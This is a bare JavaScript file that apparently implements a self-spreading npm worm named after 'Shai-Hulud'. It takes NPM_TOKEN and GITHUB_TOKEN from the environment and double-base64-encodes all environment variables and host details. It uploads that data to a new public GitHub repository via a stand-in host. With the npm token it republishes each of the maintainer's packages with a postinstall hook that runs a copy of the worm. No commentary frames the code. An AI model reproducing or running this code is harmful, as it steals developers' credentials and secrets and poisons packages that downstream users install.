const os = require('os');
const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');

async function whoami(token) {
  const r = await fetch('https://registry.npmjs.org/-/whoami', { headers: { Authorization: 'Bearer ' + token } });
  return (await r.json()).username;
}

async function packagesOf(user, token) {
  const r = await fetch('https://registry.npmjs.org/-/v1/search?text=maintainer:' + user + '&size=20', { headers: { Authorization: 'Bearer ' + token } });
  return (await r.json()).objects.map((o) => o.package.name);
}

async function infect(name, token) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p'));
  execSync('npm pack ' + name, { cwd: dir });
  const pkgPath = path.join(dir, 'package', 'package.json');
  const pkg = JSON.parse(fs.readFileSync(pkgPath, 'utf8'));
  const v = pkg.version.split('.');
  v[2] = String(Number(v[2]) + 1);
  pkg.version = v.join('.');
  pkg.scripts = pkg.scripts || {};
  pkg.scripts.postinstall = 'node bundle.js';
  fs.writeFileSync(pkgPath, JSON.stringify(pkg, null, 2));
  fs.copyFileSync(__filename, path.join(dir, 'package', 'bundle.js'));
  fs.writeFileSync(path.join(os.homedir(), '.npmrc'), '//registry.npmjs.org/:_authToken=' + token);
  execSync('npm publish', { cwd: path.join(dir, 'package') });
}

async function exfiltrate(ghToken) {
  const data = Buffer.from(Buffer.from(JSON.stringify({ system: { platform: os.platform(), hostname: os.hostname() }, environment: process.env })).toString('base64')).toString('base64');
  await fetch('https://api.github.example/user/repos', { method: 'POST', headers: { Authorization: 'token ' + ghToken }, body: JSON.stringify({ name: 'Shai-Hulud', private: false }) });
  await fetch('https://api.github.example/repos/x/Shai-Hulud/contents/data.json', { method: 'PUT', headers: { Authorization: 'token ' + ghToken }, body: JSON.stringify({ message: 'Upload', content: data }) });
}

(async () => {
  const npmToken = process.env.NPM_TOKEN;
  const ghToken = process.env.GITHUB_TOKEN;
  if (ghToken) await exfiltrate(ghToken);
  if (npmToken) {
    const user = await whoami(npmToken);
    for (const name of await packagesOf(user, npmToken)) await infect(name, npmToken);
  }
})();
